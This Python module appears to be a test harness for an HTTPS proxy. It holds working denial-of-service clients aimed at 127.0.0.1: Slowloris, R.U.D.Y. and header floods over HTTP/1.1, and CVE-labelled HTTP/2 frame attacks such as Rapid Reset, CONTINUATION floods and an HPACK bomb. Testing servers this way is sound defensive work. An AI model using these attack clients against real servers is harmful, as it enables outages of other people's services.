"""Clients that mean harm, each a function that keeps one connection busy until it is told to stop or
the proxy ends it. What an attack is about, and who described it, stands with it. Bytes are made
before they are sent, so that a slow program can send them fast."""

import socket
import ssl
import struct
import time

NAME = "d1.b.test"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(port, alpn):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    plain = socket.create_connection(("127.0.0.1", port), 5)
    return context.wrap_socket(plain, server_hostname=NAME)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def request(path=b"/1k", method=b"\x82", more=b""):
    """A header block that needs no dynamic table: GET, https, path, authority."""
    return method + b"\x87" + b"\x04" + text(path) + b"\x01" + text(NAME.encode()) + more


def begin_h2(port, settings=b""):
    connection = connect(port, "h2")
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


def swallow(connection, seconds):
    """Read what there is, for so long at most; False when the proxy has ended it."""
    connection.settimeout(seconds)
    try:
        while connection.recv(65536):
            pass
        return False
    except (TimeoutError, ssl.SSLWantReadError):
        return True


def pour(connection, blobs, stop):
    """Send them one after the other, and read now and then, until the proxy has had enough."""
    for count, blob in enumerate(blobs):
        if stop():
            return
        connection.settimeout(5)
        connection.sendall(blob)
        if count % 16 == 15 and not swallow(connection, 0.0001):
            return


def hold(connection, stop, drip=None):
    """Keep it open; `drip` is sent each half second."""
    while not stop():
        if drip:
            connection.sendall(drip)
        if not swallow(connection, 0.5):
            return


def streams(payload_of, per_blob=100):
    """Endless blobs of frames on ever new streams."""
    stream = 1
    while stream < 0x7FFFFF00:
        blob = b"".join(payload_of(stream + 2 * i) for i in range(per_blob))
        stream += 2 * per_blob
        yield blob


def forever(blob):
    while True:
        yield blob


# --- HTTP/1.1 ----------------------------------------------------------------------------------------


def slow_heads(port, stop):  # Slowloris
    connection = connect(port, "http/1.1")
    connection.sendall(f"GET /1k HTTP/1.1\r\nHost: {NAME}\r\n".encode())
    hold(connection, stop, b"X-A: b\r\n")


def slow_bodies(port, stop):  # R.U.D.Y.
    connection = connect(port, "http/1.1")
    connection.sendall(f"POST /body HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 100000\r\n\r\n".encode())
    hold(connection, stop, b"x")


def slow_readers(port, stop):
    connection = connect(port, "http/1.1")
    connection.sendall(f"GET /1m HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode() * 4)
    while not stop():
        time.sleep(0.2)


def large_heads(port, stop):
    line = b"X-Filler: " + b"y" * 200 + b"\r\n"
    head = f"GET /1k HTTP/1.1\r\nHost: {NAME}\r\n".encode() + line * 140 + b"\r\n"
    pour(connect(port, "http/1.1"), forever(head), stop)


def pipelines(port, stop):
    one = f"GET /1k HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode()
    pour(connect(port, "http/1.1"), forever(one * 50), stop)


# --- HTTP/2 ------------------------------------------------------------------------------------------


def rapid_reset(port, stop):  # CVE-2023-44487
    pour(begin_h2(port), streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, request())
                                 + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))), stop)  # fmt: skip


def provoked_reset(port, stop):  # CVE-2025-8671: the server is made to reset
    pour(begin_h2(port), streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, request())
                                 + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))), stop)  # fmt: skip


def continuations(port, stop):  # CVE-2024-27316 and its kin
    field = b"\x00" + text(b"x-a") + text(b"y" * 100)
    connection = begin_h2(port)
    connection.sendall(frame(HEADERS, END_STREAM, 1, request()))
    pour(connection, forever(frame(CONTINUATION, 0, 1, field * 10) * 10), stop)


def settings_flood(port, stop):  # CVE-2019-9515
    pour(begin_h2(port), forever(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 200), stop)


def ping_flood(port, stop):  # CVE-2019-9512
    pour(begin_h2(port), forever(frame(PING, 0, 0, b"p" * 8) * 200), stop)


def priority_flood(port, stop):  # CVE-2019-9513
    pour(begin_h2(port), forever(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)) * 200), stop)


def window_updates(port, stop):
    pour(begin_h2(port), forever(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200), stop)


def empty_data(port, stop):  # CVE-2019-9518
    connection = begin_h2(port)
    connection.sendall(frame(HEADERS, END_HEADERS, 1, request(method=b"\x83")))
    pour(connection, forever(frame(DATA, 0, 1) * 200), stop)


def open_streams(connection, path=b"/1m", flags=END_HEADERS | END_STREAM, method=b"\x82", count=90):
    blocks = (frame(HEADERS, flags, 2 * i + 1, request(path, method)) for i in range(count))
    connection.sendall(b"".join(blocks))


def zero_window(port, stop):  # CVE-2019-9517, CVE-2019-9511
    connection = begin_h2(port, struct.pack(">HI", 4, 0))
    open_streams(connection)
    hold(connection, stop, frame(PING, 0, 0, b"p" * 8))


def tiny_window(port, stop):  # CVE-2019-9511
    connection = begin_h2(port, struct.pack(">HI", 4, 1))
    open_streams(connection, count=20)
    updates = b"".join(frame(WINDOW_UPDATE, 0, 2 * i + 1, struct.pack(">I", 1)) for i in range(20))
    pour(connection, forever(updates), stop)


def hpack_bomb(port, stop):  # CVE-2016-6581, CVE-2025-53020 and its kin
    big = b"\x40" + text(b"x-b") + b"\x7f" + bytes([0x80 | (3900 - 127) & 0x7F, (3900 - 127) >> 7]) + b"z" * 3900
    block = request(more=big + b"\xbe" * 9000)
    pour(begin_h2(port), streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 1), stop)


def many_fields(port, stop):
    block = request(more=(b"\x00" + text(b"a") + text(b"")) * 3000)
    pour(begin_h2(port), streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 5), stop)


def half_closed(port, stop):
    connection = begin_h2(port)
    open_streams(connection, b"/body", END_HEADERS, b"\x83")
    hold(connection, stop, frame(PING, 0, 0, b"p" * 8))


def oversized_frames(port, stop):
    pour(begin_h2(port), forever(frame(DATA, 0, 1, b"d" * 20000)), stop)


ATTACKS = [
    (slow_heads, 400), (slow_bodies, 400), (slow_readers, 200), (large_heads, 8), (pipelines, 4),
    (rapid_reset, 4), (provoked_reset, 4), (continuations, 4), (settings_flood, 4), (ping_flood, 4),
    (priority_flood, 4), (window_updates, 4), (empty_data, 4), (zero_window, 100), (tiny_window, 4),
    (hpack_bomb, 4), (many_fields, 4), (half_closed, 100), (oversized_frames, 4),
]  # fmt: skip
